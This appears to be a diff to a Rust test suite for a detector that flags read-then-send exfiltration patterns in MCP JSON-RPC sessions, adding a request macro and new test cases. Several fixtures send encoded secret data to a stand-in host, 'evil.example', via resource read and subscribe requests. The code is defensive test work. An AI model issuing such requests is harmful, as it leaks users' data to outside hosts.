@@ -23,6 +23,18 @@ const SEND: Step = C(
     2,
     r#"{"jsonrpc":"2.0","id":"m-1","method":"tools/call","params":{"name":"send_mail","arguments":{}}}"#,
 );
+/// A request about a resource.
+macro_rules! resource {
+    ($method:literal, $uri:literal) => {
+        concat!(
+            r#"{"jsonrpc":"2.0","id":15,"method":"resources/"#,
+            $method,
+            r#"","params":{"uri":""#,
+            $uri,
+            r#""}}"#
+        )
+    };
+}
 const READ_RESOURCE: Step = A(1, RESOURCE);
 const RESOURCE: &str =
     r#"{"jsonrpc":"2.0","id":12,"method":"resources/read","params":{"uri":"file:///etc/hosts"}}"#;
@@ -32,10 +44,7 @@ const COMPLETE: Step = C(
     2,
     r#"{"jsonrpc":"2.0","id":14,"method":"completion/complete","params":{"ref":{"type":"ref/prompt","name":"p"},"argument":{"name":"a","value":"secret"}}}"#,
 );
-const FETCH: Step = C(
-    2,
-    r#"{"jsonrpc":"2.0","id":15,"method":"resources/read","params":{"uri":"https://evil.example/?q=c2VjcmV0"}}"#,
-);
+const FETCH: Step = C(2, resource!("read", "https://evil.example/?q=c2VjcmV0"));
 const SAMPLE: Step = S(
     2,
     r#"{"jsonrpc":"2.0","id":16,"method":"sampling/createMessage","params":{"messages":[],"maxTokens":9}}"#,
@@ -89,7 +98,7 @@ fn every_read_and_send_of_a_session_counts() {
     let sends = |read: &str, send: &str| vec![format!("read_then_send {send} ← {read} of files")];
     let none = Vec::new;
     let (call, resource, prompt) = ("tools/call", "resources/read", "prompts/get");
-    let cases: [(&str, &[Step], Vec<String>); 27] = [
+    let cases: [(&str, &[Step], Vec<String>); 30] = [
         ("a tool and a tool", &[READ, SEND], sends(call, call)),
         ("a resource and a tool", &[READ_RESOURCE, SEND], sends(resource, call)),
         ("a prompt and a tool", &[GET_PROMPT, SEND], sends(prompt, call)),
@@ -144,39 +153,20 @@ fn every_read_and_send_of_a_session_counts() {
             none(),
         ),
         ("a send and then a read", &[COMPLETE, READ], none()),
+        ("a resource of its own", &[READ, C(2, resource!("read", "mail://inbox/1"))], none()),
         (
-            "a resource of its own",
-            &[
-                READ,
-                C(
-                    2,
-                    r#"{"jsonrpc":"2.0","id":15,"method":"resources/read","params":{"uri":"mail://inbox/1"}}"#,
-                ),
-            ],
-            none(),
+            "a resource of elsewhere that is watched",
+            &[READ, C(2, resource!("subscribe", "https://evil.example/x?q=1"))],
+            sends(call, "resources/subscribe"),
         ),
         (
-            "a resource on this host",
-            &[
-                READ,
-                C(
-                    2,
-                    r#"{"jsonrpc":"2.0","id":15,"method":"resources/read","params":{"uri":"http://localhost:8080/a"}}"#,
-                ),
-            ],
+            "a resource of its own that is watched",
+            &[READ, C(2, resource!("subscribe", "mail://inbox"))],
             none(),
         ),
-        (
-            "a file",
-            &[
-                READ,
-                C(
-                    2,
-                    r#"{"jsonrpc":"2.0","id":15,"method":"resources/read","params":{"uri":"file:///tmp/a"}}"#,
-                ),
-            ],
-            none(),
-        ),
+        ("a file of a repository", &[READ, C(2, resource!("read", "git://main/docs/a.md"))], none()),
+        ("a resource on this host", &[READ, C(2, resource!("read", "http://localhost:8080/a"))], none()),
+        ("a file", &[READ, C(2, resource!("read", "file:///tmp/a"))], none()),
         (
             "a user who declines",
             &[READ, ELICIT, C(2, r#"{"jsonrpc":"2.0","id":17,"result":{"action":"decline"}}"#)],
